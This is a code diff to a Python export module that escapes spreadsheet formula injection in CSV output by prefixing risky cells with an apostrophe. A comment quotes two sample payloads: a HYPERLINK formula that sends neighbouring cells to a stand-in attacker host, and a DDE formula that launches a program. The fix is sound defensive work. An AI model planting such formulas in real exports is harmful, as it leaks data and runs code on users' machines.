@@ -62,6 +62,19 @@ def encode_ndjson(run: RunContext, rows: list[tuple], iso: IsoTimes) -> bytes:
     ])
 
 
+# A cell a spreadsheet would run as a formula: `=HYPERLINK("https://evil.example/?"&A2, "open")`
+# as a test title (any write key can send one) sends the neighbouring cells away when the
+# export is opened, `=cmd|' /C calc'!A0` asks to start a program. Such a cell gets a leading
+# apostrophe (OWASP's advice), which spreadsheets read as "this is text"; NDJSON and Parquet
+# keep every value exactly as stored.
+_FORMULA_START = frozenset("=+-@\t\r")
+_TEXT_CELLS = (1, 2, 3, 4, 11, 12)  # test_case_code, suite, title, file, error_message, framework
+
+
+def _cell(value):
+    return "'" + value if value and value[0] in _FORMULA_START else value
+
+
 def _csv_line(values) -> str:
     buffer = io.StringIO()
     csv.writer(buffer, lineterminator="\r\n").writerow(values)
@@ -76,12 +89,18 @@ def encode_csv(run: RunContext, rows: list[tuple], iso: IsoTimes) -> bytes:
     """RFC 4180: CRLF line ends, quotes doubled; empty for a missing value (None); flaky as
     true/false. The run's columns are the same on every row of a chunk: encoded once, written
     as text before each row (twice as fast as encoding them again per row)."""
-    prefix = _csv_line(run_values(run))[:-2] + ","
-    flags = ("false", "true")
+    prefix = _csv_line([_cell(v) if isinstance(v, str) else v for v in run_values(run)])[:-2] + ","
+    flags, starts = ("false", "true"), _FORMULA_START
     buffer = io.StringIO()
     put, row_out = buffer.write, csv.writer(buffer, lineterminator="\r\n").writerow
     for r in rows:
         put(prefix)
+        # The first characters tested inline: a call per cell would cost a third of the encoding.
+        code, suite, title, file, message, framework = r[1], r[2], r[3], r[4], r[11], r[12]
+        if ((code and code[0] in starts) or (suite and suite[0] in starts) or (title and title[0] in starts)
+                or (file and file[0] in starts) or (message and message[0] in starts)
+                or (framework and framework[0] in starts)):
+            r = [_cell(v) if i in _TEXT_CELLS else v for i, v in enumerate(r)]
         row_out((*r[:_FLAKY], flags[r[_FLAKY]], *r[_FLAKY + 1:_EXECUTED], iso(r[_EXECUTED])))
     return buffer.getvalue().encode()
 
